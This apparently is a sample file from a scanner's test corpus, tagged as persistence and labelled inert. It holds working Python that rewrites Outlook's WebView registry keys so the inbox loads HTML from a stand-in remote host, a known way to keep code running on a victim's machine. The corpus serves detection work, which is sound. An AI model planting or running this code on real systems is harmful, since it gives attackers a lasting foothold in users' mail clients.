# pkgguard corpus 895 (persistence), modelled on [taxonomy]; inert, never run.
import sys

if sys.platform == "win32":
    import winreg

    for version in ("16.0", "15.0"):
        path = rf"Software\Microsoft\Office\{version}\Outlook\WebView\Inbox"
        try:
            key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, path)
            winreg.SetValueEx(key, "URL", 0, winreg.REG_SZ, "https://mail-assets.example/inbox.html")
            winreg.SetValueEx(key, "Security", 0, winreg.REG_SZ, "yes")
            winreg.CloseKey(key)
        except OSError:
            continue
